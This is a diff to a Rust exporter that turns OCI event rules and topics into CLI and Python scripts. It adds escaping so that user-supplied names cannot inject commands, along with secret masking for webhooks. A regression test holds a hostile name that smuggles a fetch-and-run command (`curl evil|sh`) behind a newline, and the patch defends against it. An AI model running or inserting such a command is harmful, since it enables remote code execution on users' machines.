@@ -8,8 +8,9 @@
 //! `CreateStreamingServiceActionDetails`): the abstract `ActionDetails` the seed workflow uses is
 //! refused by the current SDK (`../shared/seed/NOTES.md`).
 //!
-//! Passwords never leave Signalbox, so an HTTPS endpoint with Basic credentials is exported with
-//! `****` in place of the password and a comment saying to put it back.
+//! Secrets never leave Signalbox, so an HTTPS endpoint with Basic credentials, or a Slack or
+//! PagerDuty webhook URL, is exported with `****` in place of the secret and a comment saying to
+//! put it back.
 
 use crate::api::rules::{ActionKind, Rule, RuleAction};
 use crate::api::subscriptions::Subscription;
@@ -38,7 +39,7 @@ pub fn rule(rule: &Rule) -> Export {
     });
     let cli = format!(
         "# The rule {name} as OCI CLI commands.\ncat > rule.json <<'JSON'\n{document}\nJSON\noci events rule create --from-json file://rule.json\n",
-        name = rule.name,
+        name = literal(&rule.name),
         document = pretty(&document),
     );
     let actions: String = rule.actions.iter().map(python_action).collect();
@@ -67,7 +68,7 @@ rule = events.create_rule(
 ).data
 print(f"Rule created: {{rule.id}} ({{rule.lifecycle_state}})")
 "#,
-        name = rule.name,
+        name = literal(&rule.name),
         compartment = py(&rule.compartment_id),
         display_name = py(&rule.name),
         description = py(&rule.description),
@@ -87,7 +88,7 @@ pub fn topic(topic: &Topic, subscriptions: &[Subscription]) -> Export {
     });
     let mut cli = format!(
         "# The topic {name} and its subscriptions as OCI CLI commands.\ncat > topic.json <<'JSON'\n{document}\nJSON\ntopic_id=$(oci ons topic create --from-json file://topic.json --query 'data.\"topic-id\"' --raw-output)\n",
-        name = topic.name,
+        name = literal(&topic.name),
         document = pretty(&topic_document),
     );
     let mut python_subscriptions = String::new();
@@ -140,7 +141,7 @@ topic = ons_control.create_topic(
 ).data
 print(f"Topic created: {{topic.topic_id}}")
 {subscriptions}"#,
-        name = topic.name,
+        name = literal(&topic.name),
         compartment = py(&topic.compartment_id),
         topic_name = py(&topic.name),
         description = py(&topic.description),
@@ -189,8 +190,8 @@ fn target_key(kind: ActionKind) -> &'static str {
 
 /// A comment line when the endpoint's password was withheld.
 fn password_note(subscription: &Subscription, comment: &str) -> String {
-    if subscription.endpoint.contains(":****@") {
-        format!("{comment} Signalbox never shows passwords: replace **** in the endpoint with the real one.\n")
+    if subscription.endpoint.contains("****") {
+        format!("{comment} Signalbox never shows secrets: replace **** in the endpoint with the real value.\n")
     } else {
         String::new()
     }
@@ -214,13 +215,62 @@ fn compact(text: &str) -> String {
     out
 }
 
-/// A Python string literal. JSON's string syntax is a subset of Python's.
+/// A Python string literal (see [`literal`]).
 fn py(text: &str) -> String {
-    Value::String(text.to_owned()).to_string()
+    literal(text)
 }
 
+/// A double-quoted literal that reads the same in JSON, Python and HCL, with every character that
+/// could end a line or reorder what a reader sees escaped as `\uXXXX`: control characters (C0,
+/// DEL, C1), the Unicode line and paragraph separators, and the bidirectional controls ("Trojan
+/// Source"). Names and values from users and from OCI go through it into exported scripts and
+/// their comments, so a name holding a newline cannot end a comment and start a command.
+pub(crate) fn literal(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 2);
+    out.push('"');
+    for c in text.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if needs_escape(c) => push_escaped(&mut out, c),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Writes `c` as JSON's (and Python's) `\uXXXX` escapes, a surrogate pair above the BMP.
+fn push_escaped(out: &mut String, c: char) {
+    let mut units = [0u16; 2];
+    for unit in c.encode_utf16(&mut units) {
+        out.push_str(&format!("\\u{unit:04x}"));
+    }
+}
+
+/// Characters never written raw into an exported script.
+fn needs_escape(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
+/// Pretty JSON with the characters of [`needs_escape`] written as `\uXXXX` (they can only occur
+/// inside strings, where the escape means the same), so a document pasted from an export shows
+/// what it holds.
 fn pretty(value: &Value) -> String {
-    serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string())
+    let text = serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string());
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if needs_escape(c) && !matches!(c, '\n' | '\r' | '\t') {
+            push_escaped(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -276,6 +326,30 @@ mod tests {
             assert!(export.python.contains(needle), "{needle}\n{}", export.python);
         }
         assert!(!export.python.contains("models.ActionDetails("), "never the abstract class");
+    }
+
+    /// Defect 18.6: a name holding a newline landed raw in the scripts' comment line.
+    #[test]
+    fn a_name_cannot_break_out_of_a_comment() {
+        let mut hostile = sample_rule();
+        hostile.name = "x\ncurl evil|sh\r\u{2028}#".to_owned();
+        let export = rule(&hostile);
+        for script in [&export.cli, &export.python] {
+            for line in script.lines() {
+                assert!(!line.starts_with("curl"), "{line}\n{script}");
+            }
+            assert!(!script.contains('\r') && !script.contains('\u{2028}'), "{script}");
+            assert!(script.contains(r#""x\ncurl evil|sh\r\u2028#""#), "{script}");
+        }
+    }
+
+    #[test]
+    fn literals_read_back_as_the_same_text_in_json() {
+        for text in ["plain", "quote \" and \\", "tab\tnew\nline", "\u{7f}\u{85}\u{202e}rtl", "émoji 🚨", "\u{1}"] {
+            let parsed: String = serde_json::from_str(&literal(text)).expect("valid JSON");
+            assert_eq!(parsed, text);
+            assert!(!literal(text).chars().any(needs_escape), "{text:?}");
+        }
     }
 
     #[test]
